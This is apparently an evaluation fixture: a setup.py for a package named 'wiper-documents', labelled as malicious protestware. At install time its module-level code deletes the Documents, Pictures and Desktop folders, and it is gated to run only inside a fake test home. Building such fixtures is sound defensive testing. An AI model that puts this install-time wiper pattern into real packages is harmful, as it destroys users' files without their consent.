# Evaluation fixture (malicious): destructive "protestware".  Module-level
# setup.py code deletes the user's Documents and Pictures.  Acts only
# inside the evaluation: only when HOME is the fake home (SP_HOME), whose
# files the evaluation created.
import os
import shutil

from setuptools import setup

_home = os.environ.get("SP_HOME")
if _home and os.environ.get("HOME") == _home and os.environ.get("SP_TOKEN"):
    for _d in ("Documents", "Pictures", "Desktop"):
        shutil.rmtree(os.path.join(_home, _d), ignore_errors=True)

setup(name="wiper-documents", version="0.0.3", py_modules=["localedata"])
